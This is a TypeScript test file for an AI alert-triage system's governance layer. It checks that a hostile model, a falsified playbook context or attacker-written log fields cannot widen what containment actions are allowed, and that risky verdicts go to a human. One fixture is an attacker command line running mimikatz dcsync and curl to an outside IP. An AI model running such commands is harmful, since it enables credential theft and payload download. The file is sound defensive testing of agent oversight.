import path from 'node:path';
import { decideToolCall } from '../../../src/activities/governance';
import { establishFacts } from '../../../src/governance/facts';
import type { PolicyFactsProvider } from '../../../src/governance/facts';
import { loadPolicyFile } from '../../../src/runtime/policy-file';
import { createContainmentTools } from '../../../src/tools/containment';
import { createHttpRequestTool } from '../../../src/tools/http-request';
import type { AnyTool } from '../../../src/tools/types';
import { normalizeAlert } from '../../../src/usecases/alert-triage';
import type { NormalizedAlert } from '../../../src/usecases/alert-triage';
import { createAlertFactsProvider } from '../../../src/usecases/alert-triage/policy-facts';
import { assessTriage } from '../../../src/usecases/alert-triage/tools/assess';
import { createCaseTool } from '../../../src/usecases/alert-triage/tools/case';
import { ROOT } from '../../harness/cli';

/*
 * Alert triage's governance as an attacker meets it: policy decides on facts the worker establishes per
 * call and target (the alert's vendor-reported entities, the inventory's record of that very host), so a
 * hostile model, a lying playbook `context` or attacker-written log fields change nothing.
 */

const TRIAGE = path.join(ROOT, 'src', 'usecases', 'alert-triage');
const policy = loadPolicyFile(path.join(ROOT, 'policy', 'default.yaml'), [
  { usecase: 'alert-triage', file: path.join(TRIAGE, 'policy.yaml') },
]);
const facts: PolicyFactsProvider = createAlertFactsProvider({
  inventoryFile: path.join(TRIAGE, 'demo-data', 'assets.yaml'),
});
const tools = new Map<string, AnyTool>(
  [
    ...createContainmentTools({ crowdstrikeBaseUrl: 'https://falcon.invalid', oktaBaseUrl: 'https://okta.invalid' }),
    createHttpRequestTool({
      allowedHosts: ['api.example.com'],
      timeoutMs: 1000,
      maxResponseBytes: 1000,
      maxRedirects: 0,
    }),
    createCaseTool('/nonexistent-cases'),
  ].map((t) => [t.name, t]),
);

const LOW_HOST_DEVICE = 'a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6';
/** A Falcon alert on a low-criticality workstation of the demo inventory, as the vendor sends it. */
const falconAlert = normalizeAlert('crowdstrike', {
  composite_id: 'cid1:ind:aid1:1',
  cid: 'f00dfeedf00dfeedf00dfeedf00dfeed',
  display_name: 'Credential dumping',
  severity_name: 'High',
  severity: 70,
  device: { hostname: 'eng-ws-12.corp.example.com', device_id: LOW_HOST_DEVICE, local_ip: '10.30.8.112' },
  user_name: 'CORP\\sam.lee',
  // Attacker-controlled: a command line naming other hosts and addresses.
  cmdline: 'mimikatz.exe "lsadump::dcsync /dc:dc-01.corp.example.com" & curl http://198.51.100.9/x',
  sha256: '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
});

async function decide(
  tool: string,
  rawArgs: Record<string, unknown>,
  opts: { alert?: NormalizedAlert | null; initiator?: string; context?: unknown; tainted?: boolean } = {},
) {
  const t = tools.get(tool)!;
  const args = t.input.parse(rawArgs);
  const alert = opts.alert === undefined ? falconAlert : opts.alert;
  const { decision, facts: f } = await decideToolCall(policy, [facts], t, args, {
    stepId: 's',
    kind: 'action',
    context: opts.context ?? {},
    workflowId: 'alert-crowdstrike-1',
    initiator: opts.initiator ?? 'service:http',
    tainted: opts.tainted ?? true,
    runInput: alert === null ? { ticket: 'x' } : { alert, settings: {} },
  });
  return { effect: decision.effect, tier: decision.tier, ruleId: decision.ruleId, facts: f };
}

describe('alert triage policy on facts the worker establishes', () => {
  it('lets a known low-criticality host of the alert be isolated alone, by name or by its device id', async () => {
    expect(await decide('edr_isolate_host', { hostname: 'eng-ws-12.corp.example.com' })).toMatchObject({
      effect: 'allow',
      ruleId: 'isolate-low-criticality-host',
    });
    const byDevice = await decide('edr_isolate_host', { deviceId: LOW_HOST_DEVICE });
    expect(byDevice).toMatchObject({ effect: 'allow' });
    expect(byDevice.facts.targets[0]).toMatchObject({
      kind: 'deviceId',
      inScope: true,
      asset: { found: true, criticality: 'low', hostname: 'eng-ws-12.corp.example.com' },
    });
  });

  it('denies every write on an entity the alert does not carry, whatever the model or the playbook context says', async () => {
    // A model that reaches for the domain controller; a playbook context claiming it is a low laptop in the alert.
    const lying = { asset: { found: true, criticality: 'low' }, alertHosts: ['dc-01.corp.example.com'] };
    for (const [tool, args] of [
      ['edr_isolate_host', { hostname: 'dc-01.corp.example.com' }],
      ['edr_isolate_host', { deviceId: 'f'.repeat(32) }],
      ['edr_release_host', { hostname: 'web-01.corp.example.com' }],
      ['idp_disable_user', { user: 'ceo@example.com' }],
      ['idp_enable_user', { user: 'attacker@example.com' }],
      ['block_indicator', { type: 'ipv4', value: '8.8.8.8', action: 'detect' }],
      ['block_indicator', { type: 'domain', value: 'login.microsoftonline.com' }],
      ['block_indicator', { type: 'sha256', value: 'e'.repeat(64) }],
    ] as const) {
      const d = await decide(tool, args, { context: lying });
      expect([tool, args, d.effect, d.ruleId]).toEqual([tool, args, 'deny', 'alert-write-outside-scope']);
    }
  });

  it('keeps what only attacker-written text names out of scope (it is named, not vouched for)', async () => {
    // The command line names dc-01 and 198.51.100.9: the alert names them, its vendor does not report them.
    const dc = await decide('edr_isolate_host', { hostname: 'dc-01.corp.example.com' });
    expect(dc).toMatchObject({ effect: 'deny', ruleId: 'alert-write-outside-scope' });
    const ip = await decide('block_indicator', { type: 'ipv4', value: '198.51.100.9', action: 'detect' });
    expect(ip.facts.targets[0]).toMatchObject({ inScope: false, namedInAlert: true });
    expect(ip.effect).toBe('deny');
    // Splunk notables: src_nt_host and user are log fields an attacker writes.
    const notable = normalizeAlert('splunk', {
      index: 'notable',
      event_id: 'E1',
      search_name: 'Endpoint - Suspicious Login - Rule',
      urgency: 'high',
      src_nt_host: 'fin-laptop-07',
      user: 'jane.doe',
    });
    expect(await decide('edr_isolate_host', { hostname: 'fin-laptop-07' }, { alert: notable })).toMatchObject({
      effect: 'deny',
      ruleId: 'alert-write-outside-scope',
    });
  });

  it('asks humans for critical or unknown hosts, reversals, account changes and fleet-wide blocks', async () => {
    const dcAlert = normalizeAlert('crowdstrike', {
      composite_id: 'cid1:ind:aid2:1',
      cid: 'f00dfeedf00dfeedf00dfeedf00dfeed',
      display_name: 'Beacon',
      severity_name: 'Critical',
      severity: 90,
      device: { hostname: 'dc-01.corp.example.com', device_id: 'b'.repeat(32) },
      user_name: 'CORP\\svc-backup',
    });
    expect(await decide('edr_isolate_host', { hostname: 'dc-01.corp.example.com' }, { alert: dcAlert })).toMatchObject({
      effect: 'require_approval',
      tier: 2,
      ruleId: 'isolate-critical-host',
    });
    const unknownAlert = normalizeAlert('crowdstrike', {
      composite_id: 'cid1:ind:aid3:1',
      cid: 'f00dfeedf00dfeedf00dfeedf00dfeed',
      display_name: 'Beacon',
      severity_name: 'Low',
      severity: 20,
      device: { hostname: 'not-in-inventory-9', device_id: 'c'.repeat(32) },
    });
    expect(await decide('edr_isolate_host', { hostname: 'not-in-inventory-9' }, { alert: unknownAlert })).toMatchObject(
      { effect: 'require_approval', tier: 2 },
    );
    expect(await decide('edr_release_host', { hostname: 'eng-ws-12.corp.example.com' })).toMatchObject({
      effect: 'require_approval',
      tier: 1,
      ruleId: 'release-host',
    });
    expect(await decide('idp_disable_user', { user: 'sam.lee' })).toMatchObject({
      effect: 'require_approval',
      tier: 1,
    });
    expect(await decide('idp_enable_user', { user: 'sam.lee' })).toMatchObject({ effect: 'require_approval', tier: 1 });
    // The alert's own hash: a prevent block stops it on every host, so a human confirms it.
    const hash = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08';
    const prevent = await decide('block_indicator', { type: 'sha256', value: hash });
    expect(prevent).toMatchObject({ effect: 'require_approval', tier: 1, ruleId: 'block-indicator-global' });
    expect(prevent.facts.targets[0]).toMatchObject({ kind: 'sha256', global: true, inScope: true });
    // A detection on the alert's own indicator is harmless: it runs alone.
    expect(await decide('block_indicator', { type: 'sha256', value: hash, action: 'detect' })).toMatchObject({
      effect: 'allow',
      ruleId: 'block-indicator-detect',
    });
  });

  it('denies writes in an alert run whose initiator is unverified, and writes whose tool declares no targets', async () => {
    expect(
      await decide('edr_isolate_host', { hostname: 'eng-ws-12.corp.example.com' }, { initiator: 'unverified:alice' }),
    ).toMatchObject({ effect: 'deny', ruleId: 'alert-write-unverified-trigger' });
    const post = await decide('http_request', { method: 'POST', url: 'https://api.example.com/block' });
    expect(post.facts.targetsDeclared).toBe(false);
    expect(post).toMatchObject({ effect: 'deny', ruleId: 'alert-write-outside-scope' });
    // The run's own case file touches nothing outside the run.
    expect(
      await decide('case_write', {
        title: 't',
        alert: {},
        enrichment: {},
        verdict: {},
        run: { workflowId: 'x', initiator: 'y' },
      }),
    ).toMatchObject({ effect: 'allow', ruleId: 'case-records' });
  });

  it('gives runs that are not about an alert no scope: containment falls back to the approval defaults', async () => {
    const d = await decide('edr_isolate_host', { hostname: 'eng-ws-12.corp.example.com' }, { alert: null });
    expect(d.facts.subject).toBeUndefined();
    expect(d).toMatchObject({ effect: 'require_approval', tier: 2 });
    expect(
      await decide('block_indicator', { type: 'ipv4', value: '8.8.8.8', action: 'detect' }, { alert: null }),
    ).toMatchObject({ effect: 'require_approval', tier: 1, ruleId: 'default:write' });
  });

  it('fails closed when a facts provider throws or miscounts', async () => {
    const throwing: PolicyFactsProvider = () => Promise.reject(new Error('inventory offline'));
    const f = await establishFacts([throwing], {
      input: {},
      tool: 'edr_isolate_host',
      args: {},
      targets: [{ kind: 'host', value: 'a' }],
      targetsDeclared: true,
      initiatorVerified: true,
    });
    expect(f).toMatchObject({ allTargetsInScope: false, error: expect.stringMatching(/inventory offline/) });
    const miscount: PolicyFactsProvider = () => Promise.resolve({ subject: 'alert', targets: [] });
    const g = await establishFacts([miscount], {
      input: {},
      tool: 't',
      args: {},
      targets: [{ kind: 'host', value: 'a' }],
      targetsDeclared: true,
      initiatorVerified: true,
    });
    expect(g).toMatchObject({ allTargetsInScope: false, error: expect.stringMatching(/wrong number/) });
  });
});

describe('triage assessment: a model cannot swing a verdict alone', () => {
  const critical = normalizeAlert('crowdstrike', {
    composite_id: 'cid1:ind:aid9:1',
    cid: 'f00dfeedf00dfeedf00dfeedf00dfeed',
    display_name: 'Ransomware encryption behaviour',
    severity_name: 'Critical',
    severity: 90,
    device: { hostname: 'dc-01.corp.example.com', device_id: 'd'.repeat(32) },
  });
  it('routes a hostile "benign 0.99" on a critical alert, a contradicting rationale and a failed agent to a human', () => {
    const benign = assessTriage({
      alert: critical,
      verdict: { verdict: 'benign', confidence: 0.99, rationale: 'Routine maintenance.', recommendedActions: [] },
      confidenceThreshold: 0.7,
    });
    expect(benign.route).toBe('human');
    expect(benign.reasons.map((r) => r.code)).toContain('benign_on_high_risk');
    const contradicts = assessTriage({
      alert: falconAlert,
      verdict: { verdict: 'benign', confidence: 1, rationale: 'This encoded PowerShell is malicious.' },
      confidenceThreshold: 0.7,
    });
    expect(contradicts.reasons.map((r) => r.code)).toContain('rationale_contradicts_verdict');
    const failed = assessTriage({ alert: falconAlert, verdict: { failed: true }, confidenceThreshold: 0.7 });
    expect(failed).toMatchObject({ route: 'human', reasons: [expect.objectContaining({ code: 'malformed_verdict' })] });
  });
  it('lets a consistent, confident verdict that agrees with the facts proceed alone', () => {
    const r = assessTriage({
      alert: critical,
      intel: [{ indicator: 'x', verdict: 'malicious' }],
      assets: [{ host: 'dc-01.corp.example.com', criticality: 'critical', found: true }],
      verdict: { verdict: 'malicious', confidence: 0.95, rationale: 'Encryption behaviour on a domain controller.' },
      confidenceThreshold: 0.7,
    });
    expect(r).toMatchObject({ route: 'auto', band: 'critical' });
  });
});
